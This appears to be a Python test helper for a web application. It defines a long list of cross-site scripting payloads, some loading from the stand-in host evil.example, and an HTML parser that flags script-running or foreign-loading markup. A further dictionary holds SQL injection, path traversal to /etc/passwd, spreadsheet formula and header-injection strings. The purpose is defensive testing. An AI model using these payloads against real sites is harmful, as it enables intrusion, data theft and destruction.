"""What attackers write into fields, and a judge that reads pages as a browser does."""

# ruff: noqa: E501 – the payloads read best as they are

from html.parser import HTMLParser

# Kinds of cross-site scripting that filters were bypassed with; harmless as text. Each carries the word XSS.
SCRIPTS = [
    "<script>alert('XSS')</script>", "<SCRIPT SRC=//evil.example/XSS.js></SCRIPT>", "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<img src=x onerror=alert('XSS')>", "<IMG SRC=\"javascript:alert('XSS');\">", "<img/src=`x`onerror=alert('XSS')>",
    "<img src=x:x onerror\x0b=alert('XSS')>", "<svg onload=alert('XSS')>", "<svg/onload=alert('XSS')//", "<svg><script>alert('XSS')</script></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert('XSS')\"><text y=20>X</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert('XSS')</script>\">", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('XSS')>",
    "<body onload=alert('XSS')>", "<iframe src=javascript:alert('XSS')></iframe>", "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<object data=javascript:alert('XSS')>", "<embed src=//evil.example/XSS.swf>", "<link rel=stylesheet href=//evil.example/XSS.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('XSS')\">", "<base href=//evil.example/XSS/>", "<form action=javascript:alert('XSS')><input type=submit>",
    "<input autofocus onfocus=alert('XSS')>", "<select autofocus onfocus=alert('XSS')>", "<textarea autofocus onfocus=alert('XSS')>",
    "<keygen autofocus onfocus=alert('XSS')>", "<video><source onerror=alert('XSS')>", "<audio src=x onerror=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>", "<marquee onstart=alert('XSS')>", "<isindex type=image src=1 onerror=alert('XSS')>",
    "<button formaction=javascript:alert('XSS')>X", "<a href=\"javascript:alert('XSS')\">X</a>", "<a href=\"java\tscript:alert('XSS')\">X</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">X</a>", "<a href=\"\x01javascript:alert('XSS')\">X</a>", "<a href=data:text/html,<script>alert('XSS')</script>>X</a>",
    "\"><script>alert('XSS')</script>", "'><img src=x onerror=alert('XSS')>", "\" onmouseover=\"alert('XSS')", "' autofocus onfocus='alert(1)XSS",
    "\" x-data=\"{}\" x-init=\"alert('XSS')", "\"><div hx-get=//evil.example/XSS hx-trigger=load>", "<div hx-on:load=alert('XSS')>", "\" hx-trigger=\"load\" hx-get=\"//evil.example/XSS",
    "</title><script>alert('XSS')</script>", "</textarea><script>alert('XSS')</script>", "</script><script>alert('XSS')</script>", "</style><img src=x onerror=alert('XSS')>",
    "<!--><img src=x onerror=alert('XSS')>-->", "<![CDATA[<script>alert('XSS')</script>]]>", "<?xml-stylesheet href=javascript:alert('XSS')?>", "<style>@import'//evil.example/XSS';</style>",
    "<style>*{background:url(//evil.example/XSS)}</style>", "<p style=\"background:url(javascript:alert('XSS'))\">", "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<template><script>alert('XSS')</script></template>", "<xss id=x tabindex=1 onfocus=alert('XSS')></xss>", "<script/x>alert('XSS')</script >", "<<script>alert('XSS');//<</script>",
    "{{7*7}}XSS{% debug %}", "${alert('XSS')}", "{{constructor.constructor('alert(1)XSS')()}}", "javascript:alert('XSS')", "%3Cscript%3Ealert('XSS')%3C/script%3E",
    "&lt;script&gt;alert('XSS')&lt;/script&gt;", "\uff1cscript\uff1ealert('XSS')\uff1c/script\uff1e", "+ADw-script+AD4-alert('XSS')+ADw-/script+AD4-",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('XSS') )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('XSS')//>",
]  # fmt: skip

ACTIVE = {
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "math",
    "marquee",
    "frame",
    "frameset",
    "keygen",
    "isindex",
    "xss",
    "style",
}
LINKS = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "hx-get",
    "hx-post",
    "srcdoc",
    "background",
    "poster",
}


class Judge(HTMLParser):
    """Collects whatever would run or load something that is not ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.crimes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element that acts, an attribute that runs, an address that leaves."""
        words = {name.lower(): value or "" for name, value in attrs}
        if tag in ACTIVE or (tag == "script" and not self.ours(words)) or (tag == "meta" and "http-equiv" in words):
            self.crimes.append(f"<{tag} {words}>")
        for name, value in words.items():
            flat = "".join(char for char in value if ord(char) > 32).lower()
            runs = (
                name.startswith(("on", "hx-on")) or name == "srcdoc" or (name in {"x-init", "x-html"} and "xss" in flat)
            )
            leaves = name in LINKS and flat.startswith(("javascript:", "vbscript:", "data:text", "//", "http://evil"))
            if runs or leaves:
                self.crimes.append(f"{tag} {name}={value[:80]}")

    def ours(self, words: dict[str, str]) -> bool:
        """A script of this site, or data that no browser runs."""
        return words.get("src", "").startswith("/static/") or words.get("type") in {"application/json", "importmap"}


def crimes(page: str) -> list[str]:
    """What a page holds that could run or load something foreign."""
    judge = Judge()
    judge.feed(page)
    judge.close()
    return judge.crimes


STRANGE = {
    "nul": "前\x00后", "surrogate": "前\ud800后", "emoji": "👩‍👩‍👧‍👦🇨🇳" * 3, "override": "\u202egnp.exe", "controls": "\x01\x02\x08\x1b[31m",
    "zalgo": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 2, "noncharacter": "\ufffe\uffff", "astral": "𠮷𠀋", "separator": "a\u2028b\u2029c", "crlf": "a\r\nSet-Cookie: x=1",
    "formula": "=cmd|' /C calc'!A0", "long": "长" * 20_000, "blank": "\u3000\u00a0\t ", "format": "%s%n%x{0}{name}", "percent": "%00%ff",
    "sql": "'; DROP TABLE tickets_ticket; --", "path": "../../../../etc/passwd", "huge": "9" * 5000, "number": "1e309", "minus": "-0",
}  # fmt: skip
